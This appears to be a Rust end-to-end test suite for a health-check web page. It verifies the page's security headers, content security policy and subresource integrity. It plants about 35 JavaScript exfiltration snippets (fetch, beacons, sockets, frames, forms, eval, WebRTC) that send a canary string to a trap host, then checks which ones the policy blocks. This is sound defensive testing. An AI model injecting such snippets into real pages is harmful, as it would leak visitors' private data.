//! Data leaks: a full run behind a real web server, and everything that an injected script could
//! try.

#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

use std::fs;
use std::path::Path;

use e2e::{
    Engine, Environment, Nginx, Screen, Scripts, Server, Session, Trap, Vignette, Walk,
    copy_folder, head_of, words,
};
use fantoccini::Locator;
use serde_json::{Value, json};
use site::hosting::manifest::{FILES, LANGUAGE};
use site::hosting::{File, Page, Tag, pages};

const STORY: &str = "09-street-fentanyl-overdose-no-safe-place";

/// String that an injected script tries to leak.
const CANARY: &str = "canary-answer";

#[test]
fn full_run_makes_no_request_after_the_start() {
    let story = Vignette::read(STORY);
    let nginx = Nginx::start(&Environment::read().dist);
    let session = Session::start(Scripts::On);
    let mut walk = Walk::begin(&session, &nginx.url("/"), &story);
    session.wait_for_worker();
    let at_server = nginx.requests().len();
    assert!(at_server > 5, "{:?}", nginx.requests());
    // Self-test: browser, page and server log all recorded the start.
    assert!(session.network().iter().any(|url| url.ends_with(".wasm")));
    let loaded = |session: &Session| -> usize {
        session.read("return performance.getEntriesByType('resource').length")
    };
    let at_page = loaded(&session);
    assert!(at_page > 4, "{at_page}");

    walk.continue_until(|screen| screen.has_button(words().phrases.change_answers));
    let later = &nginx.requests()[at_server..];
    assert!(later.is_empty(), "at the server: {later:?}");
    assert_eq!(session.network(), [""; 0], "in the browser");
    assert_eq!(loaded(&session), at_page, "by the page's own account");
    let mut console = session.console();
    console.retain(|line| line.level != "INFO" && line.level != "DEBUG");
    assert!(console.is_empty(), "{console:?}");
}

#[test]
fn every_page_and_file_has_its_security_headers() {
    let nginx = Nginx::start(&Environment::read().dist);
    let session = Session::start(Scripts::On);
    session.visit(&nginx.url("/method.html"));
    let whole = pages().map(|(page, _)| format!("/{page}"));
    for page in whole.chain(["/".to_owned()]) {
        let page = page.as_str();
        // From outside the page, which may not ask.
        let head = head_of(&nginx.url(page));
        let policy = &head["content-security-policy"];
        assert!(
            policy.starts_with("default-src 'none'; "),
            "{page} {policy}"
        );
        assert!(policy.contains("frame-ancestors "), "{page} {policy}");
        assert_eq!(head["referrer-policy"], "no-referrer", "{page}");
        assert_eq!(head["x-content-type-options"], "nosniff", "{page}");
        assert_eq!(
            head["cross-origin-embedder-policy"], "require-corp",
            "{page}"
        );
        assert_eq!(head["content-type"], "text/html", "{page}");
        assert_eq!(head["cache-control"], "no-cache", "{page}");
        assert!(head["permissions-policy"].contains("camera=()"), "{page}");
        // The policy in the page is the same, without header-only directives.
        session.visit(&nginx.url(page));
        let in_page: String = session.read(
            "return document.querySelector('meta[http-equiv=Content-Security-Policy]').content",
        );
        assert!(policy.starts_with(&in_page), "{page}: {in_page}");
    }
    let hashed = hashed(&Environment::read().dist, ".wasm");
    let head = head_of(&nginx.url(&format!("/{hashed}")));
    assert_eq!(head["cache-control"], "public, max-age=31536000, immutable");
    assert_eq!(head["content-type"], "application/wasm");
    assert_eq!(head["access-control-allow-origin"], "*");
    let mut console = session.console();
    // Firefox asks for an icon by itself, which the policy of a page without one blocks, and tells what was still
    // loading when the next page was opened.
    let not_of_headers = ["/favicon.ico", "Failed to load"];
    console.retain(|line| {
        !not_of_headers
            .iter()
            .any(|text| line.message.contains(text))
    });
    assert!(
        console.iter().all(|line| line.level == "INFO"),
        "the browser does not understand a header: {console:?}"
    );
}

/// Exfiltration attempts that the CSP blocks, to a foreign host and, where usual, to the page's own
/// server.
const PLANTED: &[(&str, &str)] = &[
    (
        "a request",
        "fetch(to, { mode: 'no-cors' }).catch(() => {});",
    ),
    (
        "a request to the own server",
        "fetch(home).catch(() => {});",
    ),
    ("a beacon", "navigator.sendBeacon(to, 'x');"),
    (
        "a beacon to the own server",
        "navigator.sendBeacon(home, 'x');",
    ),
    (
        "an old request",
        "try { const r = new XMLHttpRequest(); r.open('GET', to); r.onerror = () => {}; r.send(); } catch {}",
    ),
    (
        "a socket",
        "try { new WebSocket('ws://' + host + '/' + canary); } catch {}",
    ),
    ("a stream of events", "new EventSource(to);"),
    ("an image", "new Image().src = to;"),
    ("an image of the own server", "new Image().src = home;"),
    ("a sound", "new Audio(to).load();"),
    ("a style sheet", "link('stylesheet');"),
    (
        "a style sheet of the own server",
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = home; document.head.append(l);",
    ),
    (
        "a font",
        "const f = new FontFace('x', `url(${to})`); f.load().catch(() => {});",
    ),
    ("a prefetch", "link('prefetch');"),
    (
        "a preload",
        "const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = to; document.head.append(l);",
    ),
    ("a module preload", "link('modulepreload');"),
    ("an icon", "link('icon');"),
    ("a manifest", "link('manifest');"),
    (
        "a frame of the own server",
        "const f = document.createElement('iframe'); f.src = home; document.body.append(f);",
    ),
    (
        "a frame",
        "const f = document.createElement('iframe'); f.src = to; document.body.append(f);",
    ),
    (
        "an object",
        "const o = document.createElement('object'); o.data = to; document.body.append(o);",
    ),
    (
        "an embedded thing",
        "const o = document.createElement('embed'); o.src = to; document.body.append(o);",
    ),
    (
        "a form",
        "const f = document.createElement('form'); f.action = to; f.method = 'post'; f.target = 'elsewhere'; document.body.append(f); f.submit();",
    ),
    (
        "a form to the own server",
        "const f = document.createElement('form'); f.action = home; document.body.append(f); f.submit();",
    ),
    ("a worker", "try { new Worker(home); } catch {}"),
    (
        "a shared worker",
        "try { new SharedWorker(home); } catch {}",
    ),
    (
        "a script",
        "try { const s = document.createElement('script'); s.src = to; document.body.append(s); } catch {}",
    ),
    (
        "a script of the own server",
        "import(home).catch(() => {});",
    ),
    (
        "a base",
        "const b = document.createElement('base'); b.href = to; document.head.append(b); fetch('./x').catch(() => {});",
    ),
    (
        "a background",
        "document.body.setAttribute('style', `background: url(${to})`);",
    ),
    (
        "a style block",
        "const s = document.createElement('style'); s.textContent = `body { background: url(${to}) }`; document.head.append(s);",
    ),
    (
        "a text run as a program",
        "try { eval(`fetch('${to}')`); } catch {}",
    ),
    (
        "markup",
        "try { document.body.insertAdjacentHTML('beforeend', `<img src='${to}'>`); } catch {}",
    ),
    (
        "speculation",
        "const s = document.createElement('script'); s.type = 'speculationrules'; try { s.text = JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }] }); document.head.append(s); } catch {}",
    ),
    (
        "an animation of a picture",
        "const s = document.createElementNS('http://www.w3.org/2000/svg', 'image'); s.setAttribute('href', to); const g = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); g.append(s); document.body.append(g);",
    ),
];

#[test]
fn csp_blocks_every_planted_leak() {
    let trap = Trap::set();
    let nginx = Nginx::start(&Environment::read().dist);
    let session = start(&nginx);
    let before = nginx.requests().len();
    session.network();
    let mut leaks = Vec::new();
    for (name, script) in PLANTED {
        plant(&session, &nginx, &trap, script);
        // Any request has started before this message makes its round trip.
        let _: bool = session.read_later(
            "const done = arguments[0];
             const { port1, port2 } = new MessageChannel();
             port1.onmessage = () => done(true);
             port2.postMessage(null);",
            &[],
        );
        let in_browser: Vec<String> = session
            .network()
            .into_iter()
            .filter(|url| url.contains(CANARY))
            .collect();
        let at_trap = trap.received();
        let at_server: Vec<String> = nginx
            .requests()
            .split_off(before)
            .into_iter()
            .filter(|line| line.contains(CANARY))
            .collect();
        if !at_trap.is_empty() || !at_server.is_empty() {
            leaks.push(format!("{name}: {at_trap:?} {at_server:?} {in_browser:?}"));
            break;
        }
        let path: String = session.read("return location.pathname");
        assert_eq!(path, "/", "after {name}");
    }
    assert!(leaks.is_empty(), "{}", leaks.join("\n"));
}

/// Leaks that CSP cannot block. The threat model admits each of these. If a browser blocks one,
/// this test fails and the page may promise more.
#[test]
fn leaks_that_no_csp_blocks_reach_the_trap() {
    for (name, script) in [
        ("a move to another page", "location.href = to;"),
        (
            "another tab",
            "const a = document.createElement('a'); a.href = to; a.target = '_blank'; document.body.append(a); a.click();",
        ),
        (
            "a call to another browser",
            "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + host }] });
             c.createDataChannel(canary); c.createOffer().then((o) => c.setLocalDescription(o));",
        ),
    ] {
        let trap = Trap::set();
        let nginx = Nginx::start(&Environment::read().dist);
        let session = start(&nginx);
        let is_call = script.contains("RTCPeerConnection");
        if is_call && session.read("return !self.RTCPeerConnection") {
            // WebKitGTK is built without WebRTC, so nothing can leak by it.
            assert_eq!(session.engine(), Engine::WebKit);
            continue;
        }
        plant(&session, &nginx, &trap, script);
        session.wait_until(name, || !trap.received().is_empty());
    }
}

/// Subresource integrity: a modified file does not run, and the static page stays readable.
#[test]
fn modified_file_fails_integrity_and_help_lines_stay() {
    let dist = Environment::read().dist;
    let is_held = |row: &&File| {
        let is_tagged = row.pages.contains(&Page::Check) && !row.is_merged && row.is_in_digest;
        is_tagged && row.tag != Some(Tag::Stylesheet)
    };
    let mut refused = 0;
    for row in FILES.iter().filter(is_held) {
        refuses(&dist, &built(&dist, row));
        refused += 1;
    }
    assert!(refused >= 3, "only {refused} files were changed");
}

fn refuses(dist: &Path, name: &str) {
    let copy = tempfile::tempdir().unwrap();
    copy_folder(dist, copy.path());
    let file = copy.path().join(name);
    let mut bytes = fs::read(&file).unwrap();
    // A trailing space changes nothing but the digest.
    bytes.push(b' ');
    fs::write(&file, bytes).unwrap();
    let server = Server::start(copy.path());
    let session = Session::start(Scripts::On);
    session.visit(&server.url("/"));
    if name.ends_with("wasm") || name.ends_with("json") {
        let failed = Locator::Css("#footing-failed:not([hidden])");
        session.wait_for(&format!("{name} to be refused"), failed);
    }
    let phrases = &words().phrases;
    assert!(session.text().contains(phrases.in_danger), "{name}");
    let console = session.console();
    let is_refused = console
        .iter()
        .any(|line| line.message.contains("integrity") || line.message.contains("digest"));
    assert!(is_refused, "{name}: {console:?}");
    let starts: bool = session
        .read("return document.querySelector('#footing main button:not([disabled])') !== null");
    assert!(!starts, "the check runs with another {name}");
}

/// Starts the check and goes to the first question.
fn start(nginx: &Nginx) -> Session {
    let story = Vignette::read(STORY);
    let session = Session::start(Scripts::On);
    let mut walk = Walk::begin(&session, &nginx.url("/"), &story);
    walk.step(&Screen::read(&session));
    session
}

fn plant(session: &Session, nginx: &Nginx, trap: &Trap, script: &str) {
    let _: Value = session.read_with(
        &format!(
            "const [to, home, host, canary] = arguments;
             const link = (rel) => {{
                 const l = document.createElement('link');
                 l.rel = rel; l.href = to; document.head.append(l);
             }};
             try {{ {script} }} catch {{}}
             return null;"
        ),
        &[
            json!(format!("http://{}/{CANARY}", trap.host())),
            json!(nginx.url(&format!("/{CANARY}"))),
            json!(trap.host()),
            json!(CANARY),
        ],
    );
}

/// The name of the row's file in the built page.
fn built(dist: &Path, row: &File) -> String {
    row.name.in_language(LANGUAGE).unwrap_or_else(|| {
        let names = fs::read_dir(dist).unwrap().flatten();
        let mut names = names.filter_map(|entry| entry.file_name().into_string().ok());
        names.find(|name| row.name.fits(name)).unwrap()
    })
}

/// The name of the visitor's file with a hash and this ending.
fn hashed(dist: &Path, ending: &str) -> String {
    let names = fs::read_dir(dist).unwrap().flatten();
    let mut names = names.filter_map(|entry| entry.file_name().into_string().ok());
    let is_it = |name: &String| name.starts_with("widget-") && name.ends_with(ending);
    names.find(is_it).unwrap()
}
